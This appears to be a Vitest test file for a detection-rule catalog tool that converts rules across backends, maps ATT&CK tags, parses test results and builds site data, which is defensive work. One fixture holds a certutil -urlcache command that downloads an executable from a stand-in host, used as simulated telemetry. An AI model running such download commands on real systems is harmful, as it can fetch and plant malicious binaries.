/** The catalog's Node-side data step: tag parsing, slugs, test results, pipeline choices, Navigator layer, output. */
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TARGETS } from '../../src/backends/index.js';
import type { Dialect } from '../../src/backends/types.js';
import { loadRuleTexts } from '../../src/ruleset/load.js';
import { readAttack } from '../../src/site/attack.js';
import { buildSite, type SiteReport } from '../../src/site/build.js';
import { detectionQuality, navigatorLayer } from '../../src/site/layer.js';
import { tacticsOf, techniquesOf } from '../../src/site/meta.js';
import { pipelineChoices } from '../../src/site/queries.js';
import { parseTestResults } from '../../src/site/results.js';
import { assignSlugs, slugify } from '../../src/site/rules.js';
import type { RuleSummary, SiteIndex, SiteRule } from '../../src/site/types.js';
import { ATTACK_DIR, REPO } from './harness.js';

const TAGS: [string[], string[], string[]][] = [
  [['attack.t1195.002', 'attack.initial-access'], ['T1195.002'], ['initial-access']],
  [['attack.T1059', 'attack.t1059', 'attack.g0016', 'attack.s0154'], ['T1059'], []],
  [['cve.2021-44228', 'attack.execution', 'attack.defense-evasion'], [], ['execution', 'defense-evasion']],
];

describe('tags', () => {
  it.each(TAGS)('%j -> techniques %j, tactics %j', (tags, techniques, tactics) => {
    expect(techniquesOf(tags)).toEqual(techniques);
    expect(tacticsOf(tags)).toEqual(tactics);
  });
  it('keeps only known tactics when the ATT&CK list is given', () => {
    expect(tacticsOf(['attack.execution', 'attack.made-up'], new Set(['execution']))).toEqual(['execution']);
  });
});

describe('slugs', () => {
  it.each([
    ['Installer Spawns PowerShell!', 'installer-spawns-powershell'],
    ['proc_creation_win_susp_x.yml', 'proc-creation-win-susp-x-yml'],
    ['***', 'rule'],
  ])('%s -> %s', (input, slug) => expect(slugify(input)).toBe(slug));

  it('makes slugs unique across folders and across documents of one file', () => {
    const rule = (title: string) =>
      `title: ${title}\nlogsource: {product: windows}\ndetection:\n  sel: {Image: a}\n  condition: sel\n`;
    const set = loadRuleTexts({
      'a/x.yml': rule('One'),
      'b/x.yml': rule('Two'),
      'c/multi.yml': `${rule('First')}---\n${rule('Second')}`,
    });
    const slugs = [...assignSlugs(set.detections).values()];
    expect(slugs).toEqual(['x', 'x-2', 'multi--first', 'multi--second']);
  });
});

describe('test results', () => {
  it.each([
    [
      {
        rules: [
          {
            id: 'r1',
            tests: [
              { id: 't1', passed: true },
              { id: 't2', status: 'fail', detail: 'no match' },
            ],
          },
        ],
      },
    ],
    [
      [
        { rule: 'r1', test: 't1', ok: true },
        { rule: 'r1', test: 't2', passed: false, message: 'no match' },
      ],
    ],
  ])('reads %j', (doc) => {
    const { results, problems } = parseTestResults(doc);
    expect(problems).toEqual([]);
    expect(results.lookup('r1', 't1')).toEqual({ passed: true, detail: '' });
    expect(results.lookup('r1', 't2')).toEqual({ passed: false, detail: 'no match' });
    expect(results.lookup('r1', 't3')).toBeUndefined();
  });
  it('reads the rule-level checks and false-positive figures of `tripline test -f json`', () => {
    const doc = JSON.parse(readFileSync(join(REPO, 'tests/site/fixtures/test-results.json'), 'utf8'));
    const { results, problems } = parseTestResults(doc);
    expect(problems).toEqual([]);
    const r = results.rule('8f0c0d0e-1a2b-4c3d-8e4f-5a6b7c8d9e01');
    expect(r?.checks.slice(0, 3).map((c) => c.check)).toEqual(['fire', 'quiet', 'sql-diff']);
    expect(r?.falsePositives).toMatchObject({ events: 500 });
    expect(results.rule('Installer Spawns PowerShell')).toBe(r);
  });
  it('reports entries it cannot use', () => {
    expect(parseTestResults([{ rule: 'r1' }]).problems).toEqual([
      '[0]: expected a rule id, a test id and passed/status; entry skipped',
    ]);
    expect(parseTestResults(42).problems).toHaveLength(1);
  });
});

describe('pipeline choices and quality', () => {
  it('puts the default set first, then each available pipeline alone', () => {
    const d = { pipelines: { default: ['a', 'b'], available: ['a', 'c', 'c'] } } as unknown as Dialect;
    expect(pipelineChoices(d)).toEqual([['a', 'b'], ['a'], ['c']]);
  });
  it.each([
    [{ status: 'stable', confidence: 'high' }, 1],
    [{ status: 'experimental', confidence: 'low' }, 0.24],
    [{ status: 'unknown', confidence: 'unrated' }, 0.2],
  ])('quality of %j is %d', (r, q) => expect(detectionQuality(r)).toBeCloseTo(q));
});

describe.skipIf(!existsSync(ATTACK_DIR))('navigator layer', () => {
  it('is format 4.5 for ATT&CK 18 with one entry per technique and tactic', () => {
    const attack = readAttack(ATTACK_DIR);
    if (!attack) throw new Error('ATT&CK data unreadable');
    const r = { title: 'X', techniques: ['T1195.002', 'T9999'] } as unknown as RuleSummary;
    const layer = navigatorLayer([r, r], attack, 'test') as Record<string, unknown>;
    expect(layer.versions).toEqual({ attack: '18', navigator: '5.1.0', layer: '4.5' });
    expect(layer.techniques).toEqual([
      expect.objectContaining({ techniqueID: 'T1195.002', tactic: 'initial-access', score: 2 }),
    ]);
  });
});

describe('buildSite', () => {
  let out: string;
  let report: SiteReport;
  beforeAll(async () => {
    out = mkdtempSync(join(tmpdir(), 'tripline-site-data-'));
    // A stand-in app folder is enough for the data step; the browser tests build the real one.
    report = await buildSite({
      rules: ['rules', 'filters'].map((d) => join(REPO, 'tests/site/fixtures', d)),
      outDir: join(out, 'site'),
      appDir: fakeApp(out),
    });
  });
  afterAll(() => rmSync(out, { recursive: true, force: true }));

  it('converts every rule for every registered target', () => {
    const index = JSON.parse(readFileSync(join(out, 'site/data/index.json'), 'utf8')) as SiteIndex;
    expect(index.targets.map((t) => t.name)).toEqual(Object.keys(TARGETS));
    expect(report.rules).toBe(5);
    for (const r of index.rules) {
      const page = JSON.parse(readFileSync(join(out, `site/data/rules/${r.slug}.json`), 'utf8')) as SiteRule;
      expect(page.targets.map((t) => t.name)).toEqual(Object.keys(TARGETS));
      for (const t of page.targets)
        for (const o of t.options) expect(o.queries.length + o.errors.length).toBeGreaterThan(0);
    }
  });

  it('offers each pipeline choice as written and, where a filter applies, with the tuning filters', () => {
    const read = (slug: string) =>
      JSON.parse(readFileSync(join(out, `site/data/rules/${slug}.json`), 'utf8')) as SiteRule;
    const tuned = read('installer-powershell');
    const converted = tuned.targets.filter((t) => t.options[0].queries.length > 0);
    expect(converted.length).toBeGreaterThan(0);
    for (const t of converted) {
      const labels = t.options.map((o) => o.label);
      expect(labels.filter((l) => l.endsWith(' + tuning filters'))).toHaveLength(labels.length / 2);
      const withFilter = t.options.find((o) => o.label.endsWith(' + tuning filters'));
      // Same pipelines, one more exclusion (several targets write values as case-insensitive regexes).
      const plain = t.options.find((o) => o.pipelines.join() === withFilter?.pipelines.join());
      expect(withFilter?.queries.join('\n').length).toBeGreaterThan(plain?.queries.join('\n').length ?? 0);
    }
    expect(Object.keys(tuned.filters)).toEqual(['filters/vendor_postinstall.yml']);
    expect(read('certutil-hash').targets.every((t) => t.options.every((o) => !o.label.includes('tuning')))).toBe(true);
  });

  it('precomputes simulated telemetry for the tests a rule names', () => {
    const page = JSON.parse(readFileSync(join(out, 'site/data/rules/installer-powershell.json'), 'utf8')) as SiteRule;
    expect(new Set(page.telemetry.map((e) => e.test))).toEqual(
      new Set(['atomic-1-trojanized-setup-powershell', 'bg-msiexec-install']),
    );
    expect(page.telemetry.find((e) => e.expect === 'fire')?.logsource).toMatchObject({ product: 'windows' });
    expect(page.related).toEqual([expect.objectContaining({ slug: 'certutil-hash', relation: 'related' })]);
  });

  it("uses the events a test declares inline, under the rule's log source", () => {
    const page = JSON.parse(readFileSync(join(out, 'site/data/rules/certutil-hash.json'), 'utf8')) as SiteRule;
    const inline = page.telemetry.filter((e) => e.test === 'inline-certutil-urlcache');
    expect(inline).toEqual([
      {
        test: 'inline-certutil-urlcache',
        expect: 'quiet',
        logsource: { category: 'process_creation', product: 'windows' },
        fields: {
          Image: 'C:\\Windows\\System32\\certutil.exe',
          CommandLine: 'certutil -urlcache -f http://example.invalid/a a.exe',
        },
      },
    ]);
    expect(page.tests.map((t) => `${t.id}:${t.expect}:${t.description}`)).toEqual([
      'atomic-4-certutil-hashfile:fire:',
      'inline-certutil-urlcache:quiet:certutil downloading a file is not a hash check',
    ]);
  });

  it('refuses to run without a built app', async () => {
    await expect(buildSite({ rules: [], outDir: join(out, 'x'), appDir: join(out, 'nothing') })).rejects.toThrow(
      /npm run build/,
    );
  });
});

function fakeApp(dir: string): string {
  const app = join(dir, 'app');
  mkdirSync(app, { recursive: true });
  writeFileSync(join(app, 'index.html'), '<!doctype html><title>app</title>');
  return app;
}
